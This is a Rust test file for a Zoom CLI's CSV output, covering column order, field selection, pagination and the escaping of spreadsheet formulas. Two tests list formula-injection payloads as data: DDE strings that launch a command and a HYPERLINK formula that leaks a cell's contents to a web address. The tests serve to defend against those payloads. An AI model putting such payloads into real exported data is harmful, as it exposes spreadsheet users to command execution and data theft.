//! `zoomctl call --output csv`.

use serde_json::json;

use crate::support::{Reply, Run, Server, line};

fn printed(users: &str, more: &str) -> Run {
    let server = Server::always(Reply::bytes(200, format!(r#"{{"users":{users}}}"#)));
    line(format!("call list_users --output csv {more}").trim_end()).at(&server).run()
}

#[test]
fn every_field_has_a_column_in_declared_order() {
    let users = r#"[{"zoom_added":{"x":1.50},"email":"a@example.com","type":1,"group_ids":["g","h"],"first_name":"Say \"hi\", ü"},
        {"email":"b@example.com","type":2,"verified":12345678901234567890123,"dept":null,"id":"b","last_name":"two\nlines"}]"#;
    let expected = "dept,email,first_name,group_ids,id,last_name,type,verified,zoom_added.x\r\n\
        ,a@example.com,\"Say \"\"hi\"\", ü\",\"[\"\"g\"\",\"\"h\"\"]\",,,1,,1.50\r\n\
        ,b@example.com,,,b,\"two\nlines\",2,12345678901234567890123,\r\n";
    assert_eq!(printed(users, "").success(), expected);
}

#[test]
fn columns_can_be_selected() {
    let users = r#"[{"id":"a","email":"a@example.com","type":1,"group_ids":["g"]},{"email":"b@example.com","type":1}]"#;
    let run = printed(users, "--fields email,id,group_ids[0]");
    assert_eq!(run.success(), "email,id,group_ids[0]\r\na@example.com,a,g\r\nb@example.com,,\r\n");
    let run = printed(users, "--fields emial");
    assert!(run.failed(2).contains("did you mean `email`"));
}

#[test]
fn an_empty_list_has_a_heading() {
    let run = printed("[]", "");
    assert!(run.success().contains(",email,"));
    assert_eq!(printed("[]", "--fields id").success(), "id\r\n");
}

#[test]
fn texts_that_spreadsheets_would_run_are_guarded() {
    let names = ["=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0", "-2+3", "\t=1", "+1 (555) 010-9999", "-12.5", "a=b"];
    let users: Vec<_> =
        names.iter().map(|name| json!({"email": "e", "type": 1, "first_name": name, "verified": -1})).collect();
    let run = printed(&json!(users).to_string(), "--fields first_name,verified");
    let expected = "zoomctl: 5 cells would be formulas in a spreadsheet and begin with ' instead; --output json prints them unchanged\n";
    assert_eq!(run.err, expected);
    let expected = "first_name,verified\r\n'=1+2,-1\r\n'@SUM(A1),-1\r\n'+cmd|' /C calc'!A0,-1\r\n'-2+3,-1\r\n'\t=1,-1\r\n\
        +1 (555) 010-9999,-1\r\n-12.5,-1\r\na=b,-1\r\n";
    assert_eq!(run.success(), expected);
}

#[test]
fn r170_every_form_of_a_formula_is_guarded_and_nothing_else() {
    let payloads =
        ["cmd|' /C calc'!A0", "HYPERLINK(\"https://example.com?\"&A1,\"x\")", "1+1", "DDE(\"cmd\";\"/C calc\")"];
    let signs = ["=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", "＝", "＋", "－", "＠", "--", "=-", "+-"];
    let formulas = signs.iter().flat_map(|sign| payloads.map(|payload| format!("{sign}{payload}")));
    // A sign before a sum of numbers computes nothing that was not written there, but a number with a sign is data.
    let formulas: Vec<String> = formulas.filter(|text| text != "--1+1").collect();
    let harmless =
        ["+49 (30) 1234-5678", "-1", "-1.5", "+1", "-", "a=1", "1-2", "'=1", "ü", "", "me@example.com", "（=1）"];
    let texts: Vec<String> = formulas.iter().cloned().chain(harmless.map(str::to_owned)).collect();
    let users: Vec<_> = texts.iter().map(|text| json!({"email": "e", "type": 1, "first_name": text})).collect();
    let printed = printed(&json!(users).to_string(), "--fields first_name").success();
    // Every program that reads CSV, and no spreadsheet, finds the text behind a guard.
    let rows = csv_rows(&printed);
    assert_eq!(rows.len(), texts.len() + 1, "{printed}");
    for (row, text) in rows.iter().skip(1).zip(&texts) {
        let is_formula = formulas.contains(text);
        assert_eq!(*row, if is_formula { format!("'{text}") } else { text.clone() });
    }
}

/// The rows of CSV with one column.
fn csv_rows(text: &str) -> Vec<String> {
    let mut rows = vec![String::new()];
    let (mut is_quoted, mut chars) = (false, text.chars().peekable());
    while let Some(char) = chars.next() {
        let row = rows.last_mut().unwrap();
        match char {
            '"' if is_quoted && chars.peek() == Some(&'"') => row.extend(chars.next()),
            '"' => is_quoted = !is_quoted,
            '\r' if !is_quoted => {
                assert_eq!(chars.next(), Some('\n'));
                rows.push(String::new());
            }
            other => row.push(other),
        }
    }
    rows.truncate(rows.len() - 1);
    rows
}

#[test]
fn r170_a_name_of_a_column_is_guarded_too() {
    let run = printed(r#"[{"=HYPERLINK(1)":{"@b":1},"id":"a"}]"#, "");
    assert_eq!(run.success(), "id,'=HYPERLINK(1).@b\r\na,1\r\n");
}

#[test]
fn an_object_is_one_row_and_further_pages_are_reported() {
    let server = Server::always(Reply::json(200, &json!({"id": 1, "settings": {"audio": "voip", "empty": {}}})));
    let run = line("call meetings.get_meeting meeting_id=1 --output csv").at(&server).run();
    assert_eq!(run.success(), "id,settings.audio,settings.empty\r\n1,voip,{}\r\n");
    let server = Server::always(Reply::json(200, &json!({"things": [{"id": "a"}], "next_page_token": "t"})));
    let run = line("api /new/things --output csv").at(&server).run();
    assert_eq!(run.err, "zoomctl: the list has more pages: use --all-pages\n");
    assert_eq!(run.success(), "id\r\na\r\n");
}

#[test]
fn all_pages_are_one_csv() {
    let server = Server::start(|request| match request.target().contains("next_page_token") {
        false => Reply::json(200, &json!({"users": [{"id": "a"}], "next_page_token": "t"})),
        true => Reply::json(200, &json!({"users": [{"id": "b", "dept": "d"}]})),
    });
    let run = line("call list_users --output csv --all-pages").at(&server).run();
    assert_eq!(run.success(), "dept,id\r\n,a\r\nd,b\r\n");
}
